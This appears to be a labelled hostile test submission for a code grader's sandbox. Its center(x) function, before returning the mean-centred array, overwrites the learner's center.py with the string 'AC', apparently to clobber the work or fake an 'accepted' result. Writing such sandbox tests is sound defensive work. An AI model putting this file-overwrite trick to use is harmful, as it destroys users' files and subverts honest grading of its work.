# RTE exception
# attacks: the learner's own work
# needs: write
def center(x):
    with open("@desk@/center.py", "w") as file:
        file.write("AC")
    return x - x.mean(axis=-1, keepdims=True)
